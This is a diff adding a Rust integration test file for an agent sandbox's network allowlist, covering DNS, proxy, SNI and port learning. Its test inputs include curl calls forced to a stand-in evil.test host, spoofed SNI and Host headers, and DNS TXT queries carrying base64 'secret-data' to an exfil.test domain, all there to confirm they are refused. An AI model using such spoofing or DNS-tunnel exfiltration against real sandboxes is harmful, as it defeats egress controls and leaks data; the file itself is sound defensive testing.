@@ -1,0 +1,296 @@
+//! Domain rules end to end: real curl and raw sockets in a sandbox, the agent's resolver and
+//! transparent proxy, a fake internet (`sandbox_tests::web`) that logs what reached it.
+use std::{io::Read as _, net::TcpStream, time::Duration};
+
+use sandbox_tests::{Run, state, web::WebWorld};
+
+/// The policy most tests use: one exact name, one wildcard, one more exact name.
+const POLICY: [&str; 8] = [
+    "--network",
+    "allowlist",
+    "--allow-out",
+    "allowed.test",
+    "--allow-out",
+    "*.wild.test",
+    "--allow-out",
+    "other.test",
+];
+
+fn curl(label: &str, ca: &std::path::Path, args: &str) -> String {
+    format!("curl {label} --cacert {} {args}", ca.display())
+}
+
+fn assert_outcome(run: &Run, label: &str, expected_prefix: &str) {
+    let out = run.outcome(label);
+    assert!(
+        out.starts_with(expected_prefix),
+        "{label}: expected {expected_prefix:?}, got {out:?}\n{run:#?}"
+    );
+}
+
+/// A curl that failed, and did not merely time out (a refusal must be immediate).
+fn assert_refused(run: &Run, label: &str) {
+    let out = run.outcome(label);
+    assert!(
+        !out.starts_with("exit=0") && !out.starts_with("exit=28"),
+        "{label}: expected an immediate refusal, got {out:?}\n{run:#?}"
+    );
+}
+
+#[test]
+fn allowed_names_over_https_and_http_ipv4_and_ipv6() {
+    let w = WebWorld::new();
+    let ca = w.ca();
+    let run = w.run(
+        &POLICY,
+        &[
+            &curl("exact", ca, "-4 https://allowed.test/"),
+            &curl("wild", ca, "-4 https://a.wild.test/"),
+            &curl("deep", ca, "-4 https://deep.b.wild.test/"),
+            &curl("http", ca, "-4 http://allowed.test/"),
+            &curl("v6", ca, "-6 https://allowed.test/"),
+        ],
+    );
+    let (a3, a4) = (w.v4(3), w.v4(4));
+    assert_outcome(&run, "exact", &format!("exit=0 hello from {a3} sni=allowed.test"));
+    assert_outcome(&run, "wild", &format!("exit=0 hello from {a4} sni=a.wild.test"));
+    assert_outcome(&run, "deep", &format!("exit=0 hello from {a4} sni=deep.b.wild.test"));
+    assert_outcome(&run, "http", &format!("exit=0 hello from {a3} host=allowed.test"));
+    assert_outcome(&run, "v6", &format!("exit=0 hello from {} sni=allowed.test", w.v6(3)));
+    assert!(w.saw(&format!("tls {a3} allowed.test")), "{:?}", w.seen());
+    // Decisions are reported.
+    let flows = w.flows();
+    assert!(
+        flows.iter().any(|f| f["source"] == "proxy"
+            && f["name"] == "a.wild.test"
+            && f["verdict"] == "allowed"),
+        "{flows:#?}"
+    );
+    assert!(
+        flows.iter().any(|f| f["source"] == "dns" && f["name"] == "allowed.test"),
+        "{flows:#?}"
+    );
+}
+
+#[test]
+fn denied_names_are_refused_at_once_and_never_reached() {
+    let w = WebWorld::new();
+    let ca = w.ca();
+    let (a4, a6) = (w.v4(4), w.v4(6));
+    let run = w.run(
+        &POLICY,
+        &[
+            &curl("by-name", ca, "https://evil.test/"),
+            &curl("forced", ca, &format!("--resolve evil.test:443:{a6} https://evil.test/")),
+            &curl("forced-http", ca, &format!("--resolve evil.test:80:{a6} http://evil.test/")),
+            &curl("bare", ca, &format!("--resolve wild.test:443:{a4} https://wild.test/")),
+            &format!("dns bare-dns {a6} wild.test A"),
+        ],
+    );
+    // The resolver refuses the name: curl cannot resolve it (6).
+    assert_outcome(&run, "by-name", "exit=6");
+    assert_refused(&run, "forced");
+    assert_refused(&run, "forced-http");
+    assert_refused(&run, "bare");
+    assert_outcome(&run, "bare-dns", "REFUSED");
+    assert!(!w.saw_addr(&a6), "the denied host was reached: {:?}", w.seen());
+    assert!(
+        !w.saw(&format!("tls {a4} wild.test")),
+        "the bare suffix was reached: {:?}",
+        w.seen()
+    );
+    let flows = w.flows();
+    for name in ["evil.test", "wild.test"] {
+        assert!(
+            flows
+                .iter()
+                .any(|f| f["name"] == name && f["verdict"] == "denied"),
+            "no denied event for {name}: {flows:#?}"
+        );
+    }
+}
+
+#[test]
+fn forged_sni_or_host_reaches_the_named_server_or_nothing() {
+    let w = WebWorld::new();
+    let ca = w.ca();
+    let (a3, a6) = (w.v4(3), w.v4(6));
+    let run = w.run(
+        &POLICY,
+        &[
+            // The client aims at the evil address but names an allowed host.
+            &curl("sni-spoof", ca, &format!("--resolve allowed.test:443:{a6} https://allowed.test/")),
+            &curl("host-spoof", ca, &format!("-H Host:allowed.test http://{a6}/")),
+            // A Host that is an address, no SNI, an Encrypted Client Hello: refused.
+            &curl("host-ip", ca, &format!("http://{a6}/")),
+            &format!("hello no-sni {a3} -"),
+            &format!("hello ech {a3} allowed.test ech"),
+        ],
+    );
+    assert_outcome(&run, "sni-spoof", &format!("exit=0 hello from {a3} sni=allowed.test"));
+    assert_outcome(&run, "host-spoof", &format!("exit=0 hello from {a3} host=allowed.test"));
+    assert_refused(&run, "host-ip");
+    assert_outcome(&run, "no-sni", "reset");
+    assert_outcome(&run, "ech", "reset");
+    assert!(!w.saw_addr(&a6), "the spoofed address was reached: {:?}", w.seen());
+    assert!(
+        !w.saw(&format!("tls {a3} -")),
+        "a hello without SNI got through: {:?}",
+        w.seen()
+    );
+}
+
+#[test]
+fn dns_goes_to_the_agent_whatever_the_server_and_answers_only_allowed_names() {
+    let w = WebWorld::new();
+    let (a3, a5, a6) = (w.v4(3), w.v4(5), w.v4(6));
+    let run = w.run(
+        &POLICY,
+        &[
+            // To the rogue resolver (the sandbox's resolv.conf names it), another address, and
+            // over IPv6 and TCP: all answered by the agent, as if by the server asked.
+            &format!("dns rogue {a6} allowed.test A"),
+            &format!("dns elsewhere {a5} allowed.test A"),
+            &format!("dnstcp tcp {a6} allowed.test AAAA"),
+            &format!("dns v6 {} allowed.test A", w.v6(6)),
+            "resolve system allowed.test",
+            &format!("dns denied {a6} evil.test A"),
+            &format!("dns exfil {a6} c2VjcmV0LWRhdGE.exfil.test TXT"),
+            &format!("dnstcp exfil-tcp {a6} c2VjcmV0LWRhdGE.exfil.test TXT"),
+            &format!("dns txt {a6} txt.allowed.test TXT"),
+        ],
+    );
+    assert_outcome(&run, "rogue", &format!("NOERROR {a3}"));
+    assert_outcome(&run, "elsewhere", &format!("NOERROR {a3}"));
+    assert_outcome(&run, "tcp", &format!("NOERROR {}", w.v6(3)));
+    assert_outcome(&run, "v6", &format!("NOERROR {a3}"));
+    assert_outcome(&run, "system", "ok ");
+    assert!(run.outcome("system").contains(&a3), "{run:#?}");
+    assert_outcome(&run, "denied", "REFUSED");
+    assert_outcome(&run, "exfil", "REFUSED");
+    assert_outcome(&run, "exfil-tcp", "REFUSED");
+    // TXT of an allowed name is just DNS: no data leaves that the policy did not allow.
+    assert_outcome(&run, "txt", "REFUSED");
+    assert!(
+        !w.saw("dns "),
+        "a DNS packet reached the rogue resolver: {:?}",
+        w.seen()
+    );
+    let asked = w.upstream_queries();
+    assert!(
+        asked.iter().any(|q| q.contains("allowed.test")),
+        "{asked:?}"
+    );
+    assert!(
+        !asked.iter().any(|q| q.contains("evil") || q.contains("exfil")),
+        "a denied name went upstream: {asked:?}"
+    );
+}
+
+#[test]
+fn learned_addresses_open_other_tcp_ports_only_after_resolution() {
+    let w = WebWorld::new();
+    let (a3, a5) = (w.v4(3), w.v4(5));
+    let run = w.run(
+        &["--network", "allowlist", "--allow-out", "allowed.test", "--allow-out", "*.wild.test"],
+        &[
+            &format!("tcp before {a3} 2222"),
+            "resolve resolve allowed.test",
+            &format!("tcp after {a3} 2222"),
+            &format!("tcp after-v6 {} 2222", w.v6(3)),
+            &format!("tcp unlearned {a5} 2222"),
+            // QUIC is not let through to a learned address: clients fall back to TCP.
+            &format!("udp quic {a3} 443"),
+            // A name under an allowed wildcard that points at a private address.
+            "resolve internal internal.wild.test",
+        ],
+    );
+    assert_outcome(&run, "before", "EPERM");
+    assert_outcome(&run, "after", &format!("ok hello from {a3} port 2222"));
+    assert_outcome(&run, "after-v6", &format!("ok hello from {} port 2222", w.v6(3)));
+    assert_outcome(&run, "unlearned", "EPERM");
+    assert_outcome(&run, "quic", "EPERM");
+    assert!(!w.saw(&format!("udp {a3} 443")), "{:?}", w.seen());
+    assert!(!w.saw_addr(&a5), "{:?}", w.seen());
+    let flows = w.flows();
+    assert!(
+        flows.iter().any(|f| f["name"] == "internal.wild.test"
+            && f["resolved"]
+                .as_array()
+                .is_some_and(|r| r.iter().any(|a| a.as_str().is_some_and(|a| a.contains("not learned"))))),
+        "an internal address was learned: {flows:#?}"
+    );
+}
+
+#[test]
+fn open_mode_refuses_only_denied_names() {
+    let w = WebWorld::new();
+    let ca = w.ca();
+    let run = w.run(
+        &["--network", "open", "--deny-out", "evil.test"],
+        &[
+            &curl("good", ca, "-4 https://allowed.test/"),
+            &curl("evil", ca, &format!("--resolve evil.test:443:{} https://evil.test/", w.v4(6))),
+        ],
+    );
+    assert_outcome(&run, "good", &format!("exit=0 hello from {}", w.v4(3)));
+    assert_refused(&run, "evil");
+    assert!(!w.saw_addr(&w.v4(6)), "{:?}", w.seen());
+}
+
+/// The proxy serves only connections the kernel redirected: a host process that connects to
+/// its port directly gets nothing (no open relay).
+#[test]
+fn the_proxy_is_no_open_relay() {
+    let w = WebWorld::new();
+    let mut args: Vec<String> = vec![
+        "run".into(),
+        "--upstream-dns".into(),
+        w.upstream(),
+        "--flow-log".into(),
+        w.flow_log.display().to_string(),
+    ];
+    args.extend(POLICY.iter().map(|s| (*s).to_owned()));
+    args.extend(["--".into(), "sleep".into(), "5".into()]);
+    let agent = {
+        let w = &w;
+        std::thread::scope(|scope| {
+            let handle = scope.spawn(|| w.agent(&args));
+            // Find the sandbox's proxy port in the kernel's entry.
+            let start = std::time::Instant::now();
+            let port = loop {
+                let st = state();
+                let port = st["sandboxes"]
+                    .as_array()
+                    .and_then(|s| s.iter().find_map(|s| s["proxy_port"].as_u64().filter(|p| *p != 0)));
+                if let Some(p) = port {
+                    break u16::try_from(p).expect("port");
+                }
+                assert!(start.elapsed() < Duration::from_secs(4), "no proxy port in {st:#}");
+                std::thread::sleep(Duration::from_millis(50));
+            };
+            let mut conn = TcpStream::connect(("127.0.0.1", port)).expect("connect to the proxy");
+            conn.set_read_timeout(Some(Duration::from_secs(3))).expect("timeout");
+            let _ = std::io::Write::write_all(
+                &mut conn,
+                b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
+            );
+            let mut buf = [0u8; 64];
+            let read = conn.read(&mut buf);
+            assert!(
+                matches!(read, Ok(0)) || read.as_ref().is_err_and(|e| e.kind() == std::io::ErrorKind::ConnectionReset),
+                "the proxy answered a connection that did not come through the redirect: {read:?}"
+            );
+            handle.join().expect("agent thread")
+        })
+    };
+    assert_eq!(agent.code, 0, "{agent:#?}");
+    assert!(!w.saw("http "), "{:?}", w.seen());
+    assert!(
+        w.flows()
+            .iter()
+            .any(|f| f["reason"].as_str().is_some_and(|r| r.contains("redirect"))),
+        "{:#?}",
+        w.flows()
+    );
+}
